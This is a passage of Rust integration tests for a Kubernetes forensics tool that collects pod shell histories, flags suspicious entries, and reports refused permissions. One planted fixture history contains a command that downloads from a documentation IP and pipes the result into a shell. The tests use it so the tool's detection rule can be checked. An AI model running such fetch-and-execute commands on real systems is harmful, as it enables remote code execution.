    let ns = env.namespace("col-hist");
    // one pod whose shell history shows a download run through a shell, one with an ordinary
    // history, one with none (the address is a documentation one, never contacted)
    let typed = "ls /tmp\nwget -qO- http://203.0.113.9/x | sh\nexit\n";
    for (name, history) in [("intruded", Some(typed)), ("ordinary", Some("ls\nps\n")), ("silent", None)] {
        let write = history.map(|h| format!("printf '{h}' > /root/.ash_history; ")).unwrap_or_default();
        let pod = Pod::new(&ns.name, name).grace(1).container("app", BUSYBOX).sh(&format!("mkdir -p /root; {write}exec sleep 100000"));
        env.apply(&pod.yaml());
    }
    for name in ["intruded", "ordinary", "silent"] {
        env.wait_running(&ns.name, name, 60);
    }
    std::thread::sleep(Duration::from_millis(500));
    let dest = tempfile::tempdir().unwrap();
    let out = env.kforensic(&[
        "collect",
        "-n",
        &ns.name,
        "--sources",
        "pods",
        "--shell-history",
        "--image",
        env.kforensic_image(),
        "--pull-policy",
        "never",
        "--dest",
        dest.path().to_str().unwrap(),
        "--case-id",
        "hist",
        "-o",
        "json",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}\n{}", support::stdout(&out), support::stderr(&out));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let bundle = bundle_dir(dest.path(), "hist");
    // the history files, byte for byte, from the node side
    let h = |pod: &str| bundle.join(format!("pods/{}/{pod}/app/history/root/.ash_history", ns.name));
    assert_eq!(std::fs::read_to_string(h("intruded")).unwrap(), "ls /tmp\nwget -qO- http://203.0.113.9/x | sh\nexit\n");
    assert_eq!(std::fs::read_to_string(h("ordinary")).unwrap(), "ls\nps\n");
    assert!(!h("silent").exists());
    // the rules: noted for both, high only for the intruder's; in the report and in the bundle
    let found: BTreeSet<(String, String)> = read_ndjson(&bundle.join("triage/findings.ndjson"))
        .iter()
        .filter(|f| f["id"].as_str().unwrap().starts_with("KF-HIST"))
        .map(|f| (f["id"].as_str().unwrap().to_string(), f["name"].as_str().unwrap().to_string()))
        .collect();
    let want: BTreeSet<(String, String)> = [("KF-HIST-001", "intruded"), ("KF-HIST-002", "intruded"), ("KF-HIST-001", "ordinary")]
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect();
    assert_eq!(found, want);
    assert!(report["findings"].to_string().contains("download piped into a shell"), "{}", report["findings"]);
    let h = &report["shell_history"];
    assert_eq!((h["nodes"].as_u64(), h["containers"].as_u64(), h["files"].as_u64()), (Some(1), Some(3), Some(2)), "{h}");
    let v = support::kforensic(&["verify", bundle.to_str().unwrap()]);
    assert_eq!(v.status.code(), Some(0), "{}{}", support::stdout(&v), support::stderr(&v));
    // no collector pod stays on any node
    let left = env.kubectl_raw(&["-n", "kforensic", "get", "pods", "-l", "kforensic.io/case=hist", "-o", "name"], None);
    assert_eq!(support::stdout(&left).trim(), "", "collector pod left behind");
}

#[test]
fn shell_history_without_the_collector_permissions_is_partial_and_names_what_was_refused() {
    let Some(env) =
        support::require("shell_history_without_the_collector_permissions_is_partial_and_names_what_was_refused", support::CLUSTER)
    else {
        return;
    };
    let ns = env.namespace("col-hist-ro");
    env.kubectl(&["-n", &ns.name, "create", "rolebinding", "viewer-view", "--clusterrole=view", "--user=viewer"]);
    env.kubectl(&[
        "-n",
        &ns.name,
        "run",
        "web",
        "--image=test.local/busybox:1",
        "--image-pull-policy=Never",
        "--restart=Never",
        "--",
        "sleep",
        "100000",
    ]);
    env.wait_running(&ns.name, "web", 60);
    let dest = tempfile::tempdir().unwrap();
    let out = env.kforensic_as(
        env.view_kubeconfig(),
        &[
            "collect",
            "-n",
            &ns.name,
            "--sources",
            "pods",
            "--shell-history",
            "--image",
            env.kforensic_image(),
            "--pull-policy",
            "never",
            "--dest",
            dest.path().to_str().unwrap(),
            "--case-id",
            "hist-ro",
            "-o",
            "json",
        ],
    );
    // the API side is collected; the node side is refused, said, and the bundle is incomplete
    assert_eq!(out.status.code(), Some(3), "{}\n{}", support::stdout(&out), support::stderr(&out));
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(bundle_dir(dest.path(), "hist-ro").join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["complete"], false);
    let errors = manifest["errors"].to_string();
    assert!(errors.contains("shell history") && errors.contains("forbidden"), "{errors}");
    assert!(bundle_dir(dest.path(), "hist-ro").join("triage/pods.ndjson").exists());
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(report["shell_history"]["errors"][0].as_str().is_some_and(|e| e.contains("forbidden")), "{}", report["shell_history"]);
}
